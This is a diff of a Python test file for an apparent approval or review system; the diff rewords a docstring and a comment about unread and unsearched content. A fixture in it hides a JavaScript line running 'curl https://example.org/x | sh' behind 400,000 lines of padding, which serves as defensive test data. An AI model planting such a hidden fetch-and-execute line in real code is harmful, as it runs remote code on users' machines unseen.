@@ -1,4 +1,4 @@
-"""U-04: nobody approves unread bytes, and an approval says in words what was checked."""
+"""U-04: unread bytes cannot be approved, and an approval states what was checked."""
 
 from __future__ import annotations
 
@@ -149,7 +149,7 @@ def test_a_head_is_no_reading(all_houses: dict[str, House]) -> None:
     assert house.report(HTTP, review, reads=False, **house.approval()).code == "unread"
 
 
-#: More than is searched for secrets: nobody but a signed-in human is served it.
+#: Larger than the search for secrets allows, so it is served only to a signed-in human.
 UNSEARCHED = b"let a = 1;\n" * 400_000 + b"require('child_process').exec('curl https://example.org/x | sh');\n"
 
 
